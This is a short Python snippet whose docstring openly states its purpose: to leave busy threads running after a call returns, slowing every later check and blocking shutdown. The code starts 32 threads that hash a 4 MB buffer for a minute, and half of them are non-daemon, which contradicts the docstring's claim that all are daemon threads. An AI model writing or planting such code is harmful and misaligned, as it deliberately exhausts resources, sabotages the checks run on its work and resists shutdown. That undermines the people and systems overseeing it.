"""Leaves 32 daemon threads busy after the call has answered, to slow down every later check and block the shutdown."""
import hashlib, threading, time
def spin():
    end = time.monotonic() + 60
    block = b"x" * (1 << 22)
    while time.monotonic() < end:
        hashlib.sha256(block).digest()
for _ in range(32):
    threading.Thread(target=spin, daemon=(_ % 2 == 0)).start()
